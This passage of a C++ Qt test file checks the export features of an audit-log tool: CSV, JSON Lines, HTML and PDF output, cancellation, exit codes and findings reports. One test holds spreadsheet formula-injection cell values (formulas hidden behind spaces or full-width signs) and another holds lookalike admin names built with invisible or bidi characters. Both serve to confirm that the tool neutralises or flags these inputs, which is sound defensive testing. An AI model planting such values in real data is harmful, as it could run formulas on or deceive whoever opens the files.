            const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                                 QLatin1String(format), QStringLiteral("--output"), target});
            QCOMPARE(run.code, 1);
            QVERIFY2(run.err.startsWith("error: "), run.err.constData());
        }
    }
    QVERIFY(readAll(source) == sourceBytes);
    QVERIFY(readAll(casePath) == caseBytes);
    QCOMPARE(QDir(dir).entryList(QDir::Files | QDir::System).size(), 3);
}

void TestExport::cancelLeavesNoFile()
{
    const QString dir = m_dir.filePath(QStringLiteral("cancel"));
    QVERIFY(QDir().mkpath(dir));
    const QString source = generate(QStringLiteral("cancel/source.csv"),
                                    {QStringLiteral("--rows"), QStringLiteral("5000")});
    const QString casePath = dir + QStringLiteral("/case.auditlens");
    importJson(casePath, {source});
    const QStringList before = QDir(dir).entryList(QDir::Files);

    for (const ExportFormat format : {ExportFormat::OriginalCsv, ExportFormat::Html}) {
        ExportRequest request;
        request.casePath = casePath;
        request.outputPath =
            dir + QStringLiteral("/out.") + QLatin1String(exportFormatName(format));
        request.format = format;
        Exporter exporter;
        qint64 calls = 0;
        exporter.setProgressHandler([&](qint64, qint64 total) {
            QCOMPARE(total, qint64(5000));
            if (++calls == 1)
                exporter.cancel();
        });
        const ExportResult result = exporter.run(request);
        QVERIFY(result.cancelled);
        QVERIFY(!result.ok);
        QVERIFY(result.error.isEmpty());
        QCOMPARE(QDir(dir).entryList(QDir::Files), before);
    }

    // Cancelled before it starts: nothing written either.
    ExportRequest request;
    request.casePath = casePath;
    request.outputPath = dir + QStringLiteral("/early.csv");
    Exporter exporter;
    exporter.cancel();
    QVERIFY(exporter.run(request).cancelled);
    QCOMPARE(QDir(dir).entryList(QDir::Files), before);
}

void TestExport::exportSelected()
{
    const QString casePath = caseOf(QStringLiteral("selected.auditlens"),
                                    {QStringLiteral(AUDITLENS_TEST_DATA "/basic.csv")});
    ExportRequest request;
    request.casePath = casePath;
    request.outputPath = m_dir.filePath(QStringLiteral("selected.jsonl"));
    request.format = ExportFormat::JsonLines;
    request.useSelection = true;
    // Events 3 and 5 of basic.csv (lines 4 and 6), one named twice, and an event that is not
    // in the case: each written once, in time order (line 6 is the earlier one).
    request.selection = {3, 5, 3, 999};
    Exporter exporter;
    const ExportResult result = exporter.run(request);
    QVERIFY2(result.ok, qPrintable(result.error));
    QCOMPARE(result.events, 2);
    const QList<QByteArray> lines = readAll(request.outputPath).trimmed().split('\n');
    QCOMPARE(lines.size(), 2);
    QCOMPARE(QJsonDocument::fromJson(lines.at(0)).object().value(QStringLiteral("line")).toInt(),
             6);
    QCOMPARE(QJsonDocument::fromJson(lines.at(1)).object().value(QStringLiteral("line")).toInt(),
             4);
    const QJsonObject manifest = QJsonDocument::fromJson(readAll(result.manifestPath)).object();
    QVERIFY(manifest.value(QStringLiteral("selection")).toString().contains(QLatin1Char('2')));
}

void TestExport::exitStatus()
{
    const QString casePath = caseOf(QStringLiteral("status.auditlens"),
                                    {QStringLiteral(AUDITLENS_TEST_DATA "/basic.csv")});
    const QString out = m_dir.filePath(QStringLiteral("status.csv"));
    QCOMPARE(cli({QStringLiteral("export")}).code, 2);
    QCOMPARE(cli({QStringLiteral("export"), casePath, QStringLiteral("--output"), out}).code, 2);
    QCOMPARE(cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                  QStringLiteral("xml"), QStringLiteral("--output"), out})
                 .code,
             2);
    QCOMPARE(
        cli({QStringLiteral("export"), casePath, QStringLiteral("--format"), QStringLiteral("csv")})
            .code,
        2);
    QCOMPARE(
        cli({QStringLiteral("export"), casePath, QStringLiteral("--format"), QStringLiteral("csv"),
             QStringLiteral("--output"), out, QStringLiteral("--no-safe")})
            .code,
        2);
    QCOMPARE(
        cli({QStringLiteral("export"), casePath, QStringLiteral("--format"), QStringLiteral("csv"),
             QStringLiteral("--output"), out, QStringLiteral("--success"), QStringLiteral("maybe")})
            .code,
        2);
    const Run missing =
        cli({QStringLiteral("export"), m_dir.filePath(QStringLiteral("none.auditlens")),
             QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("--output"), out});
    QCOMPARE(missing.code, 1);
    QVERIFY(missing.err.startsWith("error: "));
    QVERIFY(!QFile::exists(out));
    const Run noFolder =
        cli({QStringLiteral("export"), casePath, QStringLiteral("--format"), QStringLiteral("csv"),
             QStringLiteral("--output"), m_dir.filePath(QStringLiteral("no/such/folder/x.csv"))});
    QCOMPARE(noFolder.code, 1);
    QCOMPARE(cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                  QStringLiteral("csv"), QStringLiteral("--output"), out})
                 .code,
             0);
}

// A spreadsheet-safe flat CSV export; the cells it altered as it says, or -1 when it failed.
int TestExport::safeExport(const QString &casePath, const QString &output)
{
    const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                         QStringLiteral("csv-flat"), QStringLiteral("--output"), output,
                         QStringLiteral("--json")});
    if (run.code != 0)
        return -1;
    return QJsonDocument::fromJson(run.out).object().value(QStringLiteral("altered_cells")).toInt();
}

// CPU time used by the child processes that have ended, user and system.
qint64 TestExport::childrenCpuMs()
{
    rusage usage{};
    getrusage(RUSAGE_CHILDREN, &usage);
    return (qint64(usage.ru_utime.tv_sec) + usage.ru_stime.tv_sec) * 1000 +
           (usage.ru_utime.tv_usec + usage.ru_stime.tv_usec) / 1000;
}

QByteArray TestExport::exported(const QString &casePath, const QString &format, const QString &name)
{
    const QString output = m_dir.filePath(name);
    const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"), format,
                         QStringLiteral("--output"), output});
    if (run.code != 0)
        qWarning("export failed: %s", run.err.constData());
    return readAll(output);
}

void TestExport::todaysShapesWriteBackByteForByte_data()
{
    QTest::addColumn<QString>("fixture");
    QTest::newRow("14 columns") << "current.csv";
    QTest::newRow("11 columns") << "current_classic.csv";
    QTest::newRow("flattened columns") << "current_flat.csv";
}

// Today's shapes, the flattened one included: the original CSV is the file itself.
void TestExport::todaysShapesWriteBackByteForByte()
{
    QFETCH(QString, fixture);
    const QString source = QStringLiteral(AUDITLENS_TEST_DATA "/") + fixture;
    const QString casePath = caseOf(fixture + QStringLiteral(".auditlens"), {source});
    QVERIFY(exported(casePath, QStringLiteral("csv"), fixture + QStringLiteral("-out.csv")) ==
            readAll(source));
}

// A header that repeats an extra column, and extra columns named like the exporters' own:
// every cell is kept, the original CSV writes the file back byte for byte, the other formats
// name each cell uniquely and never shadow their own keys.
void TestExport::repeatedAndCollidingExtraColumns()
{
    const QString header = QStringLiteral("action,actor,target,payload,occurred_at,metadata,id,"
                                          "version,scope,success,request,extra,extra,source,line,"
                                          "Time,extra");
    QList<QStringList> rows;
    for (int i = 1; i <= 3; ++i) {
        const QString n = QString::number(i);
        rows << eventRow(QStringLiteral("x") + n, QStringLiteral("2026-03-01T10:00:0%1Z").arg(i),
                         QStringLiteral("oren"), QStringLiteral("web"), "{}") +
                    QStringList{
                        QStringLiteral("a") + n, QStringLiteral("b") + n,
                        QStringLiteral("s") + n, QStringLiteral("l") + n,
                        QStringLiteral("t") + n, i == 2 ? QString() : QStringLiteral("c") + n};
    }
    const QString source = writeCsv(QStringLiteral("repeated.csv"), rows, header);
    const QString casePath = caseOf(QStringLiteral("repeated.auditlens"), {source});

    // The original shape: the file's own header and every cell, byte for byte.
    QVERIFY(exported(casePath, QStringLiteral("csv"), QStringLiteral("repeated-out.csv")) ==
            readAll(source));

    // JSON Lines: one key per cell, "extra (2)" for the second extra, "source (2)" and
    // "line (2)" beside the writer's own source and line.
    const QByteArray jsonl =
        exported(casePath, QStringLiteral("jsonl"), QStringLiteral("repeated-out.jsonl"));
    const QList<QByteArray> lines = jsonl.trimmed().split('\n');
    QCOMPARE(lines.size(), 3);
    for (int i = 0; i < 3; ++i) {
        const QString n = QString::number(i + 1);
        const QByteArray &line = lines.at(i);
        const QJsonObject o = QJsonDocument::fromJson(line).object();
        QCOMPARE(o.value(QStringLiteral("extra")).toString(), QStringLiteral("a") + n);
        QCOMPARE(o.value(QStringLiteral("extra (2)")).toString(), QStringLiteral("b") + n);
        QCOMPARE(o.value(QStringLiteral("extra (3)")).toString(),
                 i == 1 ? QString() : QStringLiteral("c") + n);
        QCOMPARE(o.value(QStringLiteral("source (2)")).toString(), QStringLiteral("s") + n);
        QCOMPARE(o.value(QStringLiteral("line (2)")).toString(), QStringLiteral("l") + n);
        QCOMPARE(o.value(QStringLiteral("Time")).toString(), QStringLiteral("t") + n);
        QCOMPARE(o.value(QStringLiteral("source")).toString(), QStringLiteral("repeated.csv"));
        QCOMPARE(o.value(QStringLiteral("line")).toInt(), i + 2);
        // No key twice: the object has as many keys as the line names.
        QCOMPARE(topLevelKeys(line).size(), o.size());
        QCOMPARE(line.count("\"extra\":"), qsizetype(1));
        QCOMPARE(line.count("\"source\":"), qsizetype(1));
    }

    // Flat CSV: the extra columns after the flat ones, named uniquely against all of them
    // ("Time" meets the flat "time").
    const QList<QStringList> flat = parseCsv(
        exported(casePath, QStringLiteral("csv-flat"), QStringLiteral("repeated-flat.csv")));
    QCOMPARE(flat.size(), 4);
    const QStringList head = flat.first();
    QCOMPARE(head.mid(head.size() - 6),
             (QStringList{QStringLiteral("extra"), QStringLiteral("extra (2)"),
                          QStringLiteral("source (2)"), QStringLiteral("line (2)"),
                          QStringLiteral("Time (2)"), QStringLiteral("extra (3)")}));
    QCOMPARE(QSet<QString>(head.begin(), head.end()).size(), head.size());
    for (int i = 1; i <= 3; ++i) {
        const QString n = QString::number(i);
        QCOMPARE(flat.at(i).size(), head.size());
        QCOMPARE(
            flat.at(i).mid(head.size() - 6),
            (QStringList{QStringLiteral("a") + n, QStringLiteral("b") + n, QStringLiteral("s") + n,
                         QStringLiteral("l") + n, QStringLiteral("t") + n,
                         i == 2 ? QString() : QStringLiteral("c") + n}));
        QCOMPARE(flat.at(i).at(head.indexOf(QStringLiteral("source"))),
                 QStringLiteral("repeated.csv"));
    }
    const QJsonObject manifest =
        QJsonDocument::fromJson(
            readAll(m_dir.filePath(QStringLiteral("repeated-flat.csv.manifest.json"))))
            .object();
    QCOMPARE(manifest.value(QStringLiteral("columns")).toArray().size(), head.size());
}

// A JSON Lines event may repeat an unknown key: both values are kept, the original CSV gets a
// column for each, JSON Lines a key for each.
void TestExport::repeatedKeysOfJsonSources()
{
    const QString source = m_dir.filePath(QStringLiteral("repeated-keys.jsonl"));
    QFile f(source);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(R"({"action":"a.b","id":"j1","occurred_at":"2026-03-01T10:00:00Z","success":true,)"
            R"("extra":"a1","extra":"b1","line":"l1"})"
            "\n"
            R"({"action":"a.b","id":"j2","occurred_at":"2026-03-01T10:00:01Z","success":true,)"
            R"("extra":"a2"})"
            "\n");
    f.close();
    const QString casePath = caseOf(QStringLiteral("repeated-keys.auditlens"), {source});
    const QList<QStringList> csv = parseCsv(
        exported(casePath, QStringLiteral("csv"), QStringLiteral("repeated-keys-out.csv")));
    QCOMPARE(csv.size(), 3);
    QCOMPARE(csv.at(0).mid(11), (QStringList{QStringLiteral("extra"), QStringLiteral("extra"),
                                             QStringLiteral("line")}));
    QCOMPARE(csv.at(1).mid(11),
             (QStringList{QStringLiteral("a1"), QStringLiteral("b1"), QStringLiteral("l1")}));
    QCOMPARE(csv.at(2).mid(11), (QStringList{QStringLiteral("a2"), QString(), QString()}));
    const QList<QByteArray> lines =
        exported(casePath, QStringLiteral("jsonl"), QStringLiteral("repeated-keys-out.jsonl"))
            .trimmed()
            .split('\n');
    QCOMPARE(lines.size(), 2);
    const QJsonObject first = QJsonDocument::fromJson(lines.at(0)).object();
    QCOMPARE(first.value(QStringLiteral("extra")).toString(), QStringLiteral("a1"));
    QCOMPARE(first.value(QStringLiteral("extra (2)")).toString(), QStringLiteral("b1"));
    QCOMPARE(first.value(QStringLiteral("line (2)")).toString(), QStringLiteral("l1"));
    QCOMPARE(first.value(QStringLiteral("line")).toInt(), 1);
    QCOMPARE(topLevelKeys(lines.at(0)).size(), first.size());
}

// 100,000 columns: every lookup of a cell's column is a hash, so the exports take time in
// proportion to the cells (as original CSV it took 56 s). A generous guard on the CPU time the
// export process used, which a busy machine does not inflate; the figures are printed.
void TestExport::hundredThousandColumnsExportInLinearTime()
{
    constexpr int kColumns = 100000;
    QByteArray bytes = "action,actor,target,payload,occurred_at,metadata,id,version,scope,success,"
                       "request";
    for (int c = 11; c < kColumns; ++c)
        bytes += ",x" + QByteArray::number(c % 50000); // every name twice
    bytes += '\n';
    for (int r = 0; r < 4; ++r) {
        bytes += "a.b,{},{},{},2026-03-01T10:00:0" + QByteArray::number(r) + "Z,{},w" +
                 QByteArray::number(r) + ",1,{},true,{}";
        for (int c = 11; c < kColumns; ++c)
            bytes += ',' + QByteArray::number(r * kColumns + c);
        bytes += '\n';
    }
    const QString source = m_dir.filePath(QStringLiteral("wide.csv"));
    QFile f(source);
    QVERIFY(f.open(QIODevice::WriteOnly));
    QCOMPARE(f.write(bytes), bytes.size());
    f.close();
    const QString casePath = caseOf(QStringLiteral("wide.auditlens"), {source});
    for (const QString &format :
         {QStringLiteral("csv"), QStringLiteral("csv-flat"), QStringLiteral("jsonl")}) {
        QElapsedTimer timer;
        timer.start();
        const qint64 cpuBefore = childrenCpuMs();
        const QByteArray out = exported(casePath, format, QStringLiteral("wide-out.") + format);
        const qint64 cpuMs = childrenCpuMs() - cpuBefore;
        qInfo("100,000 columns, 4 rows, export as %s: %lld ms CPU, %lld ms wall (process "
              "included)",
              qPrintable(format), cpuMs, timer.elapsed());
        // Sanitizers make everything several times slower.
        const qint64 limitMs = qEnvironmentVariableIsSet("AUDITLENS_SANITIZED") ? 20000 : 5000;
        QVERIFY2(cpuMs < limitMs, qPrintable(format));
        if (format == QLatin1String("csv"))
            QVERIFY(out == bytes);
        else if (format == QLatin1String("jsonl")) // 13 keys of the event, 3 of annotations
            QCOMPARE(QJsonDocument::fromJson(out.left(out.indexOf('\n'))).object().size(),
                     kColumns - 11 + 16);
        else
            QCOMPARE(out.left(out.indexOf('\n')).count(',') + 1, 16 + kColumns - 11);
    }
}

// Spreadsheets skip leading spaces (a no-break space too) before a formula, and read the
// full-width signs as the ASCII ones: such cells are neutralised too, and counted.
void TestExport::formulasBehindSpacesAndFullWidth()
{
    const QStringList hostile = {
        QStringLiteral(" =1+1"),          QStringLiteral("  +SUM(1,2)"),
        QStringLiteral("\u00a0=1+1"),     QStringLiteral("\u3000@SUM(1)"),
        QStringLiteral("\n-2+3"),         QStringLiteral("\uff1d1+1"),
        QStringLiteral("\uff0bSUM(1,2)"), QStringLiteral("\uff0d2+3"),
        QStringLiteral("\uff20SUM(1)"),   QStringLiteral(" \u00a0\uff1dcmd"),
    };
    const QStringList harmless = {QStringLiteral("plain"), QStringLiteral(" spaced out"),
                                  QStringLiteral("a=b"), QStringLiteral("\u00a0x")};
    QList<QStringList> rows;
    for (int i = 0; i < hostile.size() + harmless.size(); ++i) {
        const QString actor = i < hostile.size() ? hostile.at(i) : harmless.at(i - hostile.size());
        rows << eventRow(QStringLiteral("w%1").arg(i),
                         QStringLiteral("2026-03-01T10:00:%1Z").arg(i, 2, 10, QLatin1Char('0')),
                         actor, QStringLiteral("plain target"), QByteArrayLiteral("{\"a\":1}"));
    }
    const QString source = writeCsv(QStringLiteral("wide-formulas.csv"), rows);
    const QString casePath = caseOf(QStringLiteral("wide-formulas.auditlens"), {source});
    const QString safe = m_dir.filePath(QStringLiteral("wide-formulas-safe.csv"));
    QCOMPARE(safeExport(casePath, safe), int(hostile.size()));
    const QList<QStringList> cells = parseCsv(readAll(safe));
    const int actor = int(cells.first().indexOf(QStringLiteral("actor_name")));
    QSet<QString> seen;
    for (qsizetype r = 1; r < cells.size(); ++r) {
        const QString cell = cells.at(r).at(actor);
        if (cell.startsWith(QLatin1Char('\''))) {
            QVERIFY2(hostile.contains(cell.mid(1)), qPrintable(cell));
            seen << cell.mid(1);
        } else {
            QVERIFY2(harmless.contains(cell), qPrintable(cell));
        }
    }
    QCOMPARE(seen.size(), hostile.size());
    const QJsonObject manifest =
        QJsonDocument::fromJson(readAll(safe + QStringLiteral(".manifest.json"))).object();
    QCOMPARE(manifest.value(QStringLiteral("spreadsheet_safe"))
                 .toObject()
                 .value(QStringLiteral("altered_cells"))
                 .toInt(),
             int(hostile.size()));
}

// admin and three names that show as "admin": in the HTML report the three are marked, their
// invisible characters escaped, and listed with their code points; the real one is not.
void TestExport::lookalikeNamesAreMarkedInReports()
{
    const QStringList actors = {QStringLiteral("admin"), QStringLiteral("ad\u200bmin"),
                                QStringLiteral("\u0430dmin"), QStringLiteral("\u202enimda")};
    QList<QStringList> rows;
    for (int i = 0; i < actors.size(); ++i)
        rows << eventRow(QStringLiteral("l%1").arg(i),
                         QStringLiteral("2026-03-01T10:00:0%1Z").arg(i), actors.at(i),
                         QStringLiteral("web"), "{}");
    const QString source = writeCsv(QStringLiteral("lookalikes.csv"), rows);
    const QString casePath = caseOf(QStringLiteral("lookalikes.auditlens"), {source});
    const QString page = QString::fromUtf8(
        exported(casePath, QStringLiteral("html"), QStringLiteral("lookalikes.html")));
    QVERIFY(page.contains(QStringLiteral("<td>admin</td>")));
    QVERIFY(page.contains(QStringLiteral("⚠ ad\\u200bmin")));
    QVERIFY(page.contains(QStringLiteral("⚠ \u0430dmin")));
    QVERIFY(page.contains(QStringLiteral("⚠ \\u202enimda")));
    // The invisible and reordering characters themselves never reach the page.
    QVERIFY(!page.contains(QChar(0x200b)));
    QVERIFY(!page.contains(QChar(0x202e)));
    // The list at the end names the code points.
    const qsizetype list = page.indexOf(QStringLiteral("Names that may pass for others"));
    QVERIFY(list > 0);
    const QString tail = page.mid(list);
    QVERIFY(tail.contains(QStringLiteral("U+200B (invisible)")));
    QVERIFY(tail.contains(QStringLiteral("U+0430 (Cyrillic among Latin letters)")));
    QVERIFY(tail.contains(QStringLiteral("U+202E (bidi control")));
    QVERIFY(!tail.contains(QStringLiteral("<td class=\"lookalike\">admin</td>")));
    // The PDF is laid out from the same document.
    const QByteArray pdf =
        exported(casePath, QStringLiteral("pdf"), QStringLiteral("lookalikes.pdf"));
    QVERIFY(pdf.startsWith("%PDF-"));
}

// The report lists each enabled findings rule with its hits among the report's events and in the
// case, and names the rules that picked each listed event; hits kept stale are evaluated again.
void TestExport::reportsListFindings()
{
    // 2026-03-03 is a Tuesday: 03:00 UTC is outside the shipped working hours, 10:00 inside.
    QList<QStringList> rows;
    rows << eventRow(QStringLiteral("f1"), QStringLiteral("2026-03-03T03:00:00Z"),
                     QStringLiteral("mallory"), QStringLiteral("prod"), "{}",
                     QStringLiteral("context.secrets.accessed"))
         << eventRow(QStringLiteral("f2"), QStringLiteral("2026-03-03T03:05:00Z"),
                     QStringLiteral("mallory"), QStringLiteral("prod"), "{}",
                     QStringLiteral("context-secrets-accessed"))
         << eventRow(QStringLiteral("f3"), QStringLiteral("2026-03-03T04:00:00Z"),
                     QStringLiteral("trent"), QStringLiteral("prod"), "{}",
                     QStringLiteral("context.secrets.accessed"))
         << eventRow(QStringLiteral("f4"), QStringLiteral("2026-03-03T10:00:00Z"),
                     QStringLiteral("mallory"), QStringLiteral("prod"), "{}",
                     QStringLiteral("context.secrets.accessed"));
    const QString source = writeCsv(QStringLiteral("findings.csv"), rows);
    const QString casePath = caseOf(QStringLiteral("findings.auditlens"), {source});
    const QString offHours = QStringLiteral("Context secrets read outside working hours");
    auto counts = [](const QString &page, const QString &ruleId) {
        const qsizetype at = page.indexOf(QStringLiteral("(") + ruleId + QStringLiteral(")"));
        if (at < 0)
            return QString();
        const qsizetype end = page.indexOf(QStringLiteral("</tr>"), at);
        QStringList numbers;
        static const QRegularExpression num(QStringLiteral("<td class=\"num\">([0-9]+)</td>"));
        for (auto it = num.globalMatch(page.mid(at, end - at)); it.hasNext();)
            numbers << it.next().captured(1);
        return numbers.join(QLatin1Char('/'));
    };

    QString page = QString::fromUtf8(
        exported(casePath, QStringLiteral("html"), QStringLiteral("findings.html")));
    QVERIFY(page.contains(QStringLiteral("<h2>Findings</h2>")));
    QCOMPARE(counts(page, QStringLiteral("secrets-access-off-hours")), QStringLiteral("3/3"));
    QCOMPARE(counts(page, QStringLiteral("secrets-access-burst")), QStringLiteral("0/0"));
    QCOMPARE(page.count(QStringLiteral("finding: ") + offHours), 3);

    // Under a filter: the report's hits and the case's differ.
    const QString filtered = m_dir.filePath(QStringLiteral("findings-mallory.html"));
    QCOMPARE(cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                  QStringLiteral("html"), QStringLiteral("--output"), filtered,
                  QStringLiteral("--actor"), QStringLiteral("mallory")})
                 .code,
             0);
    page = QString::fromUtf8(readAll(filtered));
    QCOMPARE(counts(page, QStringLiteral("secrets-access-off-hours")), QStringLiteral("2/3"));
    QCOMPARE(page.count(QStringLiteral("finding: ") + offHours), 2);

    // Kept findings that no longer match their rules are not trusted: the report evaluates.
    {
        CaseStore store;
        QString error;
        QVERIFY2(store.open(casePath, CaseStore::Mode::ReadWrite, &error), qPrintable(error));
        QVERIFY(SqliteStatement::exec(store.handle(), "DELETE FROM finding_hits"));
        QVERIFY(SqliteStatement::exec(store.handle(), "UPDATE meta SET value = 'stale' WHERE key ="
                                                      " 'findings_fingerprint'"));
    }
    page = QString::fromUtf8(
        exported(casePath, QStringLiteral("html"), QStringLiteral("findings-stale.html")));
    QCOMPARE(counts(page, QStringLiteral("secrets-access-off-hours")), QStringLiteral("3/3"));

    // The PDF lays out the same section.
    const QByteArray pdf =
        exported(casePath, QStringLiteral("pdf"), QStringLiteral("findings.pdf"));
    QVERIFY(pdf.startsWith("%PDF-"));
}

QTEST_MAIN(TestExport)
#include "tst_export.moc"
